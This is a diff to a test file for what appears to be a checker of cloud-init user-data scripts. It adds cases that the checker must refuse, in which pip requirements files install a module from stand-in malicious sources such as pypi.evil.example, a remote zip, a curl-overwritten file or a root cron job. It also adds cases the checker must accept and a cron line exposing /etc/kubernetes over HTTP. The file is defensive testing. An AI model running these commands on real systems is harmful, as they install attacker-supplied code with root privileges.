@@ -40,6 +40,9 @@ const dev = devNodeCase;
 const REFUSED =
     /serv|8001|6000|kubernetes|tune\.py|srv|unread|not read|writes|cron|program|PYTHON|shell|run|pip|index|import/;
 
+/** Round 76: the refusal of code imported from a module pip may have installed from anywhere (srvx, pipRun). */
+const SRVX_UNTRUSTED = /imports srvx, a module user data did not write and the pack does not know/;
+
 /** The cron line the insecure writes put in root's cron: a server of /etc/kubernetes on 0.0.0.0:8001. */
 const CRON = "@reboot root cd /etc/kubernetes && python3 -m http.server 8001\\n";
 /** The same as a shell command run by the program. */
@@ -919,6 +922,104 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
+    // Round 76 neighbours (insecure) of the requirements file fix (pip docs "Requirements File Format": a line may be
+    // an option, --index-url/--extra-index-url/-r/-e, or a URL requirement; pip reads the file when the line runs):
+    // trusted only as user data wrote it whole with name specifiers only, as it is at the pip line.
+    dev(
+        "user data: req.txt holds --index-url https://pypi.evil.example/simple and srvx; pip3 install -r it; import srvx",
+        pipRun("dev-py76q-pip-requirements-index-nodes", [
+            ...heredocFile("/etc/ops/req.txt", ["--index-url https://pypi.evil.example/simple", "srvx"]),
+            "pip3 install -r /etc/ops/req.txt",
+        ]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: req.txt holds --extra-index-url (glued =) and srvx; pip3 install --requirement=/etc/ops/req.txt",
+        pipRun("dev-py76q-pip-requirements-extra-index-nodes", [
+            ...heredocFile("/etc/ops/req.txt", ["srvx==1.0", "--extra-index-url=https://pypi.evil.example/simple"]),
+            "pip3 install --requirement=/etc/ops/req.txt",
+        ]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: req.txt holds `srvx @ https://evil.example/srvx.zip` (a URL requirement); pip3 install -r it",
+        pipRun("dev-py76q-pip-requirements-url-nodes", [
+            ...heredocFile("/etc/ops/req.txt", ["srvx @ https://evil.example/srvx.zip"]),
+            "pip3 install -r /etc/ops/req.txt",
+        ]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: req.txt holds -r /etc/ops/more.txt (a nested file with an index); pip3 install -r req.txt",
+        pipRun("dev-py76q-pip-requirements-nested-nodes", [
+            ...heredocFile("/etc/ops/more.txt", ["--index-url https://pypi.evil.example/simple", "srvx"]),
+            ...heredocFile("/etc/ops/req.txt", ["-r /etc/ops/more.txt"]),
+            "pip3 install -r /etc/ops/req.txt",
+        ]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: req.txt written (srvx), then curl'd over before the pip line; pip3 install -r it",
+        pipRun("dev-py76q-pip-requirements-rewritten-before-nodes", [
+            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
+            "curl -fsSLo /etc/ops/req.txt https://evil.example/req.txt",
+            "pip3 install -r /etc/ops/req.txt",
+        ]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: pip3 install -r /etc/ops/req.txt, a file user data never wrote (the AMI's or nobody's)",
+        pipRun("dev-py76q-pip-requirements-unwritten-nodes", ["pip3 install -r /etc/ops/req.txt"]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: /etc/ops/req.txt (srvx) written, but `cd /tmp && pip3 install -r req.txt` reads /tmp/req.txt",
+        pipRun("dev-py76q-pip-requirements-relative-other-nodes", [
+            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
+            "cd /tmp && pip3 install -r req.txt",
+        ]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: pip3 install -r https://evil.example/req.txt (pip docs: a requirements file may be a URL)",
+        pipRun("dev-py76q-pip-requirements-remote-nodes", ["pip3 install -r https://evil.example/req.txt"]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: req.txt holds srvx only, but the pip line adds -i https://pypi.evil.example/simple",
+        pipRun("dev-py76q-pip-requirements-line-index-nodes", [
+            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
+            "pip3 install -r /etc/ops/req.txt -i https://pypi.evil.example/simple",
+        ]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: req.txt ends a line with a backslash continuing into --index-url (pip joins the lines)",
+        pipRun("dev-py76q-pip-requirements-continuation-nodes", [
+            ...heredocFile("/etc/ops/req.txt", ["srvx \\", "--index-url https://pypi.evil.example/simple"]),
+            "pip3 install -r /etc/ops/req.txt",
+        ]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: pip3 install -r $REQ (a path the pack does not expand to a file it wrote)",
+        pipRun("dev-py76q-pip-requirements-variable-nodes", [
+            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
+            'REQ="$(curl -fsS https://evil.example/path)"',
+            'pip3 install -r "$REQ"',
+        ]),
+        SRVX_UNTRUSTED,
+    ),
+    dev(
+        "user data: pip3 install -r req.txt (srvx) at its line, then req.txt gets an index and a cron job installs it again",
+        pipRun("dev-py76q-pip-requirements-cron-again-nodes", [
+            ...heredocFile("/etc/ops/req.txt", ["srvx"]),
+            "pip3 install -r /etc/ops/req.txt",
+            ...heredocFile("/etc/ops/req.txt", ["--index-url https://pypi.evil.example/simple", "srvx"]),
+            `printf '@reboot root pip3 install -r /etc/ops/req.txt\\n' > /etc/cron.d/ops-pip`,
+        ]),
+        SRVX_UNTRUSTED,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -974,7 +1075,7 @@ const secure: NodeCase[] = [
         ),
     ),
     // pip docs "Requirements File Format": a file of name specifiers is the same install from the default index.
-    // MISS: (secure, fail-closed; the lead may rule DECIDED) pip docs "Requirements File Format" (a file of
+    // Was a MISS (fixed in round 76): (secure, fail-closed; the lead may rule DECIDED) pip docs "Requirements File Format" (a file of
     // requirement specifiers, one per line; options such as --index-url may appear in it too): this one holds only
     // tenacity==8.2.3, the same default-index install. -r is outside PIP_PLAIN_OPTIONS: refused "imports tenacity, a
     // module ... the pack does not know". Fix if wanted: a -r file user data wrote as text whose every line is a name
@@ -989,8 +1090,43 @@ const secure: NodeCase[] = [
             ["import tenacity", "print(tenacity.__name__)"],
             [...heredocFile("/etc/ops/req.txt", ["tenacity==8.2.3"]), "pip3 install -r /etc/ops/req.txt"],
         ),
-        undefined,
-        true,
+    ),
+    // Round 76 neighbours (secure): the file by a path relative to a known working directory, with a comment and a
+    // blank line (pip docs "Requirements File Format": "A line that begins with # is treated as a comment"), and a
+    // file rewritten with an index only AFTER the pip line (pip read it when the line ran; nothing runs it again).
+    dev(
+        "user data: cd /etc/ops && pip3 install -r req.txt (a comment, a blank line, tenacity); tune.py imports tenacity",
+        tune(
+            "dev-py76q-pip-requirements-relative-nodes",
+            ["import tenacity", "print(tenacity.__name__)"],
+            [
+                ...heredocFile("/etc/ops/req.txt", ["# pinned", "", "tenacity>=8,<9  # retry helper"]),
+                "cd /etc/ops && pip3 install -q -r req.txt",
+            ],
+        ),
+    ),
+    dev(
+        "user data: sudo pip3 install --requirement /etc/ops/req.txt (tenacity[doc]~=8.2); tune.py imports tenacity",
+        tune(
+            "dev-py76q-pip-requirements-long-nodes",
+            ["import tenacity", "print(tenacity.__name__)"],
+            [
+                ...heredocFile("/etc/ops/req.txt", ["tenacity[doc]~=8.2"]),
+                "sudo pip3 install --requirement /etc/ops/req.txt",
+            ],
+        ),
+    ),
+    dev(
+        "user data: pip3 install -r /etc/ops/req.txt (tenacity), then req.txt rewritten with an index; tune.py imports tenacity",
+        tune(
+            "dev-py76q-pip-requirements-rewritten-after-nodes",
+            ["import tenacity", "print(tenacity.__name__)"],
+            [
+                ...heredocFile("/etc/ops/req.txt", ["tenacity==8.2.3"]),
+                "pip3 install -r /etc/ops/req.txt",
+                ...heredocFile("/etc/ops/req.txt", ["--index-url https://pypi.evil.example/simple", "tenacity"]),
+            ],
+        ),
     ),
     // PyPI project "PyJWT": the distribution PyJWT provides the top-level module jwt.
     // Was a MISS (fixed in round 75): (secure, fail-closed; the lead may rule DECIDED) PyPI "PyJWT" (the project provides the top-level package
